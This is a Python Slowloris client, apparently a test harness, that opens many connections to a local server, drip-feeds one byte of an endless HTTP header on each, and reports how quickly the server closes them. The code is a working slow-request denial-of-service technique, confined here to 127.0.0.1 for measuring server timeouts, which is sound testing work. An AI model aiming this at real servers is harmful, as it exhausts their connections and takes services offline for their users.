#!/usr/bin/env python3
"""Slowloris client: opens N connections to 127.0.0.1:PORT and trickles one byte of a never-ending request
head on each, every INTERVAL seconds, for at most DURATION seconds. Prints one CSV line:
opened,closed_by_server,answered,median_seconds_to_close,max_seconds_to_close"""
import selectors, socket, sys, time

port, count, duration = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 0.5
head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 100000
sel = selectors.DefaultSelector()
conns = {}
start = time.monotonic()
for i in range(count):
    s = socket.socket()
    s.setblocking(False)
    opened = time.monotonic()
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    conns[s] = {"opened": opened, "sent": 0, "closed": None, "answered": False}
    sel.register(s, selectors.EVENT_READ)
deadline = start + duration
next_tick = time.monotonic()
while time.monotonic() < deadline and any(c["closed"] is None for c in conns.values()):
    now = time.monotonic()
    if now >= next_tick:
        for s, c in conns.items():
            if c["closed"] is None:
                try:
                    s.send(head[c["sent"]:c["sent"] + 1])
                    c["sent"] += 1
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    c["closed"] = time.monotonic()
        next_tick = now + interval
    for key, _ in sel.select(timeout=0.05):
        s, c = key.fileobj, conns[key.fileobj]
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if data:
            c["answered"] = True
        else:
            c["closed"] = time.monotonic()
            sel.unregister(s)
closed = sorted(c["closed"] - c["opened"] for c in conns.values() if c["closed"] is not None)
answered = sum(1 for c in conns.values() if c["answered"])
for s in conns:
    s.close()
median = closed[len(closed) // 2] if closed else -1
print("%d,%d,%d,%.2f,%.2f" % (count, len(closed), answered, median, closed[-1] if closed else -1))
